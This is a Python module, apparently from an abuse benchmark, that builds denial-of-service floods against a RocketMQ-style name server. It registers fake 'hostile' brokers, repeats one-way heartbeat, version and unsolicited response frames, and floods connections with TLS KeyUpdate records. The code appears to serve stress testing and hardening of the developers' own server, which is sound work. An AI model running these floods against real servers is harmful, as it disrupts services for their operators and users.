"""Floods: many small frames or records for which a server sends nothing back, so that no unread answer slows them."""

import itertools
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

from benchmarks.abuse.attacker import Attacker, Flow, Opening
from benchmarks.abuse.payloads import registration
from benchmarks.abuse.records import KEY_UPDATE_BYTES, TlsRecords
from namesrv_remoting.bodies.register import RegisterBrokerBody, encode_json_body
from namesrv_remoting.bodies.topic import DataVersion
from namesrv_remoting.codes import FLAG_ONEWAY, FLAG_RESPONSE, RequestCode
from namesrv_remoting.command import RemotingCommand
from namesrv_remoting.headers import BrokerHeartbeatRequestHeader, QueryDataVersionRequestHeader
from namesrv_remoting.serializers import encode_command

# with a version, which 322 asks for
_NO_TOPICS: Final = encode_json_body(RegisterBrokerBody([], DataVersion(1)))
_CHUNK_BYTES: Final = 256 * 1024
# of all connections of a flood together: their records are sealed before the attack begins
UPDATES_BYTES: Final = 8 * 1024 * 1024
# of a connection that takes the place of another one during the attack
FURTHER_UPDATES_BYTES: Final = 32 * 1024


@dataclass(frozen=True, slots=True)
class Flood:
    """How the connections of a flood are opened before the attack, and those that replace them during it."""

    count: int
    sources: int
    opening: Opening
    reopening: Opening

    def open(self, attacker: Attacker) -> None:
        """Open all, before the attack's time begins."""
        attacker.open_flood(self.count, self.opening, sources=self.sources)

    def send(self, attacker: Attacker) -> None:
        """Send until the time is up."""
        attacker.flood(self.reopening, sources=self.sources)


def repeated(data: bytes, size: int = _CHUNK_BYTES) -> memoryview:
    """A frame over and over, about a chunk of it."""
    return memoryview(data * max(1, size // len(data)))


# -- frames ------------------------------------------------------------------------------------------------------------


def oneway_heartbeat(name: str) -> bytes:
    """A heartbeat (904) of a broker, without a response."""
    header = BrokerHeartbeatRequestHeader(
        cluster_name="Hostile", broker_addr=f"{name}:10911", broker_name=name, broker_id=0
    )
    return _flagged(RequestCode.BROKER_HEARTBEAT, header.to_ext(), FLAG_ONEWAY)


def oneway_version(name: str) -> bytes:
    """The heartbeat of RocketMQ 4.x (322), without a response."""
    header = QueryDataVersionRequestHeader(
        broker_name=name, broker_addr=f"{name}:10911", cluster_name="Hostile", broker_id=0
    )
    return _flagged(RequestCode.QUERY_DATA_VERSION, header.to_ext(), FLAG_ONEWAY)


def response(name: str) -> bytes:
    """A response to a request that the server has never sent."""
    return _flagged(0, {"brokerName": name}, FLAG_RESPONSE)


def _flagged(code: int, fields: dict[str, str], flag: int) -> bytes:
    return encode_command(RemotingCommand(code, flag=flag, ext_fields=fields))


def of_brokers(make: Callable[[str], bytes], *more: Callable[[str], bytes]) -> Opening:
    """Connections that register a broker each, and send its frame over and over; of several frames each another one."""
    makes = (make, *more)

    def opening(attacker: Attacker, number: int, source: int) -> Flow | None:
        name = f"hostile-{number}"
        peer = attacker.connect(source)
        if peer is None or not attacker.ask(peer, registration(_NO_TOPICS, broker_name=name)):
            return None
        data = makes[number % len(makes)](name)
        return Flow(peer, len(data), itertools.repeat(repeated(data)))

    return opening


# -- TLS ---------------------------------------------------------------------------------------------------------------


def of_key_updates(size: int, *, is_http: bool = False) -> Opening:
    """Connections that send so many bytes of KeyUpdate records."""

    def opening(attacker: Attacker, _: int, source: int) -> Flow | None:
        peer = attacker.connect(source, attacker.http_port if is_http else None)
        if peer is None:
            return None
        try:
            records = TlsRecords(peer)
        except OSError:
            attacker.closed += 1
            attacker.disconnect(peer)
            return None
        updates = records.key_updates(size // KEY_UPDATE_BYTES)
        return Flow(peer, KEY_UPDATE_BYTES, iter([memoryview(updates)]))

    return opening
